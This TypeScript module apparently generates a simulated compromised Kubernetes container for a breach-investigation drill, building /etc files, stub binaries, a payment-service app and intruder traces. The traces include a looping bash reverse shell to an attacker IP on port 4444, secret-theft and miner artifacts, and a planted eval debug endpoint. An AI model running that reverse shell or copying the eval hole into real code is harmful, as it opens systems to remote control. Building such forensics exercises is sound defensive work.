import { hexOf } from '../random.ts';
import type { BreachView } from '../scenarios/breach.ts';
import { type FileNode, treeBuilder } from './files.ts';
import { procfs } from './procfs.ts';
import type { Mount, Process, Scene, Socket } from './scene.ts';

export interface TreeFacts {
  family: Scene['family'];
  profile: string;
  uid: number;
  user: string;
  hostname: string;
  podIp: string;
  namespace: string;
  podUid: string;
  container: string;
  containerId: string;
  startedAt: number;
  builtAt: number; // when the image was built
  now: number;
  env: Readonly<Record<string, string>>;
  processes: readonly Process[];
  sockets: readonly Socket[];
  mounts: readonly Mount[];
  programs: ReadonlySet<string>;
  mounted: readonly { path: string; files: Readonly<Record<string, string>> }[];
  logText: () => string;
  breach: BreachView;
  attacker: { ip: string };
}

/** The container's whole file tree: image, mounts, /proc, and what an intruder left. */
export function treeOf(f: TreeFacts): FileNode {
  const tree = treeBuilder(f.builtAt);
  const own = { uid: f.uid, gid: f.uid };
  for (const dir of ['/tmp', '/var/tmp', '/dev/shm']) tree.dir(dir, { mode: 0o1777, mtime: f.startedAt });
  for (const dir of [
    '/root',
    '/home',
    '/srv',
    '/opt',
    '/mnt',
    '/sys',
    '/run',
    '/var/log',
    '/var/spool',
    '/usr/bin',
    '/usr/local/bin',
    '/usr/sbin',
    '/usr/lib',
  ])
    tree.dir(dir, dir === '/root' ? { mode: 0o700 } : {});
  for (const device of ['null', 'zero', 'random', 'urandom', 'tty'])
    tree.put(`/dev/${device}`, { kind: 'device', mode: 0o666, uid: 0, gid: 0, mtime: f.startedAt });
  etc(tree, f);
  if (f.family !== 'none') binaries(tree, f);
  app(tree, f, own);
  for (const { path, files } of f.mounted) {
    tree.dir(path, { mtime: f.startedAt });
    for (const [name, content] of Object.entries(files)) tree.file(`${path}/${name}`, content, { mtime: f.startedAt });
  }
  tree.file('/var/log/app.log', f.logText, { ...own, mtime: f.now - 4000, mode: 0o640 });
  if (f.family === 'debian' && f.profile !== 'node') {
    tree.file(
      '/var/log/dpkg.log',
      '2026-11-11 09:12:44 status installed base-files:amd64 12.4+deb12u12\n2026-11-11 09:12:51 status installed libssl3:amd64 3.0.17-1~deb12u3\n',
    );
    tree.file('/var/log/lastlog', new Uint8Array(292), { mode: 0o664 });
    tree.file('/var/log/btmp', '', { mode: 0o660 });
  }
  intruder(tree, f, own);
  tree.put('/proc', procfs({ ...f, bootedAt: f.now - 41 * 86_400_000 }));
  return tree.root;
}

function etc(tree: ReturnType<typeof treeBuilder>, f: TreeFacts): void {
  const started = { mtime: f.startedAt };
  tree.file('/etc/hostname', `${f.hostname}\n`, started);
  tree.file(
    '/etc/hosts',
    `# Kubernetes-managed hosts file.\n127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost ip6-loopback\n${f.podIp}\t${f.hostname}\n`,
    started,
  );
  tree.file(
    '/etc/resolv.conf',
    `search ${f.namespace}.svc.cluster.local svc.cluster.local cluster.local\nnameserver 10.43.107.101\noptions ndots:5\n`,
    started,
  );
  const shell = f.family === 'none' ? '/sbin/nologin' : '/bin/sh';
  tree.file(
    '/etc/passwd',
    `root:x:0:0:root:/root:${shell}\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n${f.uid === 0 ? '' : `${f.user}:x:${f.uid}:${f.uid}::/home/${f.user}:${shell}\n`}`,
  );
  tree.file('/etc/group', `root:x:0:\nnobody:x:65534:\n${f.uid === 0 ? '' : `${f.user}:x:${f.uid}:\n`}`);
  if (f.family === 'none') return;
  // The company's own base image has no password file, and busybox's is for root alone to want.
  if (f.profile !== 'node' && f.profile !== 'busybox')
    tree.file('/etc/shadow', `root:*:20400:0:99999:7:::\n${f.uid === 0 ? '' : `${f.user}:!:20400::::::\n`}`, {
      mode: 0o640,
      gid: 42,
    });
  tree.file(
    '/etc/os-release',
    f.family === 'alpine'
      ? 'NAME="Alpine Linux"\nID=alpine\nVERSION_ID=3.22.2\nPRETTY_NAME="Alpine Linux v3.22"\n'
      : 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\nID=debian\n',
  );
  tree.file(
    '/etc/crontab',
    '# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n',
  );
  tree.file('/etc/cron.d/e2scrub_all', '30 3 * * 0 root test -e /run/systemd/system || exit 0\n');
  tree.file('/etc/cron.daily/dpkg', '#!/bin/sh\nset -e\n', { mode: 0o755 });
  tree.dir('/etc/cron.hourly');
  tree.dir('/etc/cron.weekly');
  tree.file('/etc/ssl/openssl.cnf', '[ default ]\n');
  tree.file('/etc/nsswitch.conf', 'passwd: files\ngroup: files\nhosts: files dns\n');
}

function binaries(tree: ReturnType<typeof treeBuilder>, f: TreeFacts): void {
  for (const name of f.programs) {
    if (f.family === 'alpine') tree.link(`/usr/bin/${name}`, '/bin/busybox', { mtime: f.builtAt });
    else
      tree.file(`/usr/bin/${name}`, `\u007fELF drill ${hexOf(name, 32)}\n`, {
        mode: name === 'mount' ? 0o4755 : 0o755,
        size: 20_000 + name.length * 7919,
      });
  }
  if (f.family === 'alpine') tree.file('/bin/busybox', '\u007fELF drill busybox\n', { mode: 0o755, size: 808_712 });
  else tree.link('/bin', 'usr/bin');
}

function app(tree: ReturnType<typeof treeBuilder>, f: TreeFacts, own: { uid: number; gid: number }): void {
  if (f.profile !== 'node') {
    if (f.profile !== 'busybox') tree.file('/app/VERSION', '1\n');
    return;
  }
  tree.file(
    '/app/server.js',
    "import http from 'node:http';\nimport { exec } from 'node:child_process';\n\nif (process.env.DEBUG_ENDPOINT === 'on') app.post('/debug/eval', (req, res) => res.json(eval(req.body)));\n",
    own,
  );
  tree.file('/app/package.json', '{ "name": "payment-service", "version": "2.14.0", "type": "module" }\n', own);
  tree.file('/app/lib/charge.js', 'export const charge = async (order) => ledger.post(order);\n', own);
  tree.file('/usr/local/bin/node', '\u007fELF drill node\n', { mode: 0o755, size: 118_200_344 });
}

function intruder(tree: ReturnType<typeof treeBuilder>, f: TreeFacts, own: { uid: number; gid: number }): void {
  const at = (beat: Parameters<BreachView['at']>[0]) => f.breach.at(beat, f.podUid, f.container);
  const shell = at('shell');
  const enumeration = at('enumeration');
  const drop = at('exfiltration');
  const mining = at('miner');
  if (shell !== null)
    tree.file(
      '/tmp/.cache/.sh',
      `#!/bin/sh\nwhile :; do bash -i >& /dev/tcp/${f.attacker.ip}/4444 0>&1; sleep 30; done\n`,
      { ...own, mode: 0o700, mtime: shell + 9000 },
    );
  if (enumeration !== null) {
    tree.file('/tmp/.cache/kubectl', '\u007fELF drill kubectl\n', {
      ...own,
      mode: 0o755,
      mtime: enumeration,
      size: 58_130_616,
    });
    tree.file(
      '/tmp/.cache/secrets.yaml',
      'apiVersion: v1\nkind: List\nitems: [gateway-jwt, ledger-db, payment-provider, payments-db, registry]\n',
      { ...own, mtime: enumeration + 21_000 },
    );
  }
  if (drop !== null) tree.file('/dev/shm/.k', 'kworkerd\n', { ...own, mtime: drop });
  if (mining !== null)
    tree.file('/tmp/.x/kdevtmpfsi', '\u007fELF drill miner\n', { ...own, mode: 0o755, mtime: mining, size: 5_120_000 });
}
